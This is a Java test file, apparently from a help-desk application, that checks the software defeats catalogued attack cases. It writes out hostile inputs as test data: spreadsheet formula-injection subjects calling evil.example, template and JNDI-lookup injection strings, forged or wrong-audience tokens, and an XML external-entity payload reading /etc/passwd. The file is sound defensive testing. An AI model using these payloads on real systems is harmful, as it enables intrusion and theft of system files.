package dev.trestle.app.attack;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.trestle.app.client.HttpCaller;
import dev.trestle.app.exports.TicketExport;
import dev.trestle.app.imports.SourceRefused;
import dev.trestle.app.imports.TicketImporter;
import dev.trestle.app.imports.VolvoSource;
import dev.trestle.app.outside.DeskClient;
import dev.trestle.app.outside.ServedDesk;
import dev.trestle.app.progress.Progress;
import dev.trestle.testdata.SharedData;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Rows of the collected attack cases that no protocol test covers, each by its id. */
class AttackCasesTest {
  // Code that uses the names; a list of packages that plugins may use holds them as texts.
  private static final Pattern XML_READERS =
      Pattern.compile(
          "(?<!\")(javax\\.xml|org\\.w3c\\.dom|org\\.xml\\.sax)|XMLInputFactory|XMLDecoder");

  // When the collection's verdicts hold.
  private static final Instant EVALUATED = Instant.ofEpochSecond(1767225600);

  @TempDir private static Path folder;
  @AutoClose private static ServedDesk desk;

  @BeforeAll
  static void open() throws IOException {
    desk = ServedDesk.start(folder.resolve("desk"));
  }

  /** The row as it was collected, so that a changed demand is noticed. */
  private static String row(String id) throws IOException {
    return Files.readAllLines(SharedData.path("security/attack_cases.csv")).stream()
        .filter(line -> line.startsWith(id + ","))
        .findFirst()
        .orElseThrow();
  }

  private static String create(DeskClient admin, String subject) {
    return admin
        .done("ticketCreate", Map.of("subject", subject, "text", subject), "ticket { id }")
        .at("/ticket/id")
        .asText();
  }

  @Test
  void case45_subjectsThatSpreadsheetsWouldRunAreNeutralisedInCsv() throws IOException {
    assertTrue(row("case-45").contains("neutralised in CSV exports"));
    DeskClient admin = desk.admin();
    for (String start : List.of("=", "+", "-", "@", "\t=", "  =", "\uff1d")) {
      create(admin, start + "HYPERLINK(\"http://evil.example\")");
    }
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (HttpCaller caller =
        new HttpCaller(
            URI.create(admin.url()), String.valueOf(admin.bearer()), Duration.ofMillis(10))) {
      new TicketExport(caller).run(TicketExport.Format.csv, out, Progress.SILENT);
    }
    String csv = out.toString(StandardCharsets.UTF_8);
    assertTrue(csv.contains("HYPERLINK"), csv);
    for (String cell : csv.split("[,\r\n]")) {
      String shown = cell.replaceFirst("^\"", "");
      assertFalse(shown.matches("^[\\s]*[=+@\uff1d].*|^-[^0-9].*"), cell);
    }
  }

  @Test
  void case46_templateMarkersStayTheTextTheyAre() throws IOException {
    assertTrue(row("case-46").contains("never evaluated"));
    DeskClient admin = desk.admin();
    String text = "{{7*7}} #{7*7} ${7*7} ${jndi:ldap://evil.example/a} <%= 7*7 %> {% raw %} %{7*7}";
    String id = create(admin, text);
    admin.done("ticketNote", Map.of("ticketId", id, "text", text), "ticket { id }");
    JsonNode ticket =
        admin
            .data(
                "query($i: ID!) { ticket(id: $i) { subject messages(first: 5) { nodes { text } }"
                    + " history(first: 9) { nodes { changes { field after } message { text } } } } }",
                Map.of("i", id))
            .get("ticket");
    assertEquals(text, ticket.get("subject").asText());
    assertEquals(List.of(text, text), texts(ticket.at("/messages/nodes"), "text"));
    assertFalse(ticket.toString().matches(".*(?<![0-9*])49(?![0-9]).*"), ticket.toString());
  }

  private static List<String> texts(JsonNode nodes, String field) {
    List<String> texts = new ArrayList<>();
    nodes.forEach(node -> texts.add(node.get(field).asText()));
    return texts;
  }

  @Test
  void case51_tokensOfWrongAudienceUnsignedOrOfAnotherTenantAreRefused() throws IOException {
    assertTrue(row("case-51").contains("wrong audience, unsigned response, other tenant issuer"));
    List<String> refused = new ArrayList<>();
    try (ServedDesk strict =
        ServedDesk.start(folder.resolve("strict"), Map.of(), () -> EVALUATED)) {
      strict
          .admin()
          .done(
              "trustedIssuerAdd",
              Map.of(
                  "issuer",
                  "https://idp.example.test",
                  "audience",
                  "another-desk",
                  "algorithms",
                  List.of("RS256"),
                  "jwks",
                  Files.readString(SharedData.path("security/jwt/jwks.json"))),
              "trustedIssuer { id }");
      for (JsonNode token : SharedData.json("security/jwt/expected.jsonl")) {
        DeskClient.Reply reply =
            strict.anonymous().bearing(token.get("token").asText()).ask("{ viewer { id } }");
        assertEquals(401, reply.status(), token + " -> " + reply.body());
        refused.add(token.get("id").asText());
      }
    }
    // The sound one is refused as well: it was made for another audience than this desk.
    assertTrue(
        refused.containsAll(List.of("valid", "alg-none-4", "wrong-iss")), refused.toString());
  }

  @Test
  void case53_noXmlIsEverParsed() throws IOException {
    assertTrue(row("case-53").contains("no external entities, expansion limit"));
    Path xes = folder.resolve("log.xes");
    Files.writeString(
        xes,
        "<?xml version=\"1.0\"?><!DOCTYPE log [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;\">"
            + "<!ENTITY x SYSTEM \"file:///etc/passwd\">]><log>&x;&b;</log>\n");
    try (HttpCaller caller =
        new HttpCaller(
            URI.create(desk.admin().url()),
            String.valueOf(desk.admin().bearer()),
            Duration.ofMillis(10))) {
      SourceRefused refused =
          assertThrows(
              SourceRefused.class,
              () ->
                  new TicketImporter(caller, new VolvoSource(), 10, row -> {})
                      .run(xes, Progress.SILENT));
      assertFalse(String.valueOf(refused.getMessage()).contains("root:"), refused.getMessage());
    }
    List<Path> readers = new ArrayList<>();
    try (Stream<Path> sources = Files.walk(Path.of("..").toAbsolutePath().normalize())) {
      for (Path source : sources.filter(AttackCasesTest::ofTheDesk).toList()) {
        if (XML_READERS.matcher(Files.readString(source)).find()) {
          readers.add(source);
        }
      }
    }
    assertEquals(List.of(), readers, "who reads XML needs tests with hostile XML");
  }

  private static boolean ofTheDesk(Path source) {
    return source.toString().endsWith(".java") && source.toString().contains("/src/main/");
  }
}
